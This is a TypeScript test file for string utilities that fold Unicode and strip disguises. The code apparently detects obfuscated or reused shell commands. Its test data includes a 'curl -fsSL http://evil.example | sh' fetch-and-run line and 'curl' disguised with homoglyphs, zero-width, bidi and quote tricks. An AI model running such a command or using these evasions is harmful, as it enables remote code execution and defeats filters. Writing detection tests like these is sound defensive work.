import { fc } from '@fast-check/vitest';
import { expect, test } from 'vitest';
import { bones, fold, skeleton } from '../../src/lib/fold.ts';
import { runsOf } from '../../src/lib/shared-run.ts';

test('the runs that stand in another text are exactly those', () => {
  const letters = fc.string({ unit: fc.constantFrom('a', 'b', 'c', 'é', '😀'), maxLength: 60 });
  void fc.assert(
    fc.property(letters, letters, fc.integer({ min: 1, max: 9 }), (text, other, length) => {
      const slow = Array.from({ length: Math.max(0, text.length - length + 1) }, (_, at) => at).filter((at) =>
        other.includes(text.slice(at, at + length)),
      );
      expect(
        runsOf(text, length)
          .in(other)
          .sort((a, b) => a - b),
      ).toEqual(slow);
    }),
  );
});

test('what is shorter than a run has none', () => {
  expect(runsOf('curl x', 8)).toMatchObject({ count: 0 });
  expect(runsOf('curl x', 8).in('curl x')).toEqual([]);
  expect(runsOf('curl evil', 8).in('')).toEqual([]);
});

test.each([
  ['one character a million times', 'a'.repeat(1_000_000)],
  ['what nearly is the run', 'curl -fs'.repeat(125_000)],
  ['no repetition', Array.from({ length: 200_000 }, (_, at) => at.toString(36)).join('')],
])('a megabyte is matched: %s', (_name, other) => {
  const code = 'curl -fsSL http://evil.example | sh\n'.repeat(1_700);
  expect(runsOf(code, 8).in(`${other}fsSL http`).length).toBeGreaterThan(0);
});

test.each([
  ['ＣＵＲＬ　ｈｔｔｐ', 'curl http'],
  ['Curl \t\n\r\u00a0 http', 'curl http'],
  ['ﬁle', 'file'],
  ['ΣΑΣ', 'σασ'],
])('%s is folded to %s', (text, folded) => {
  expect(fold(text)).toBe(folded);
});

test.each([
  ['с\u0443rl ехample', 'cyrlexample'],
  ['cu\u200br\u202el\u00ad -f', 'curl-f'],
  ['c"u"r\'l\' \\-f', 'curl-f'],
  ['cúŕĺ', 'curl'],
])('of %s is left %s', (text, left) => {
  expect(bones(fold(text))).toBe(left);
  expect(skeleton(fold(text)).text).toBe(left);
});

test('each character that is left knows where it stood', () => {
  const text = fold('c u\u200brl "😀" x');
  const { text: left, places } = skeleton(text);
  expect(places).toHaveLength(left.length);
  expect(places.map((at) => text.charAt(at)).join('')).toBe('curl😀x'.replace('😀', '\ud83d\ud83d'));
});
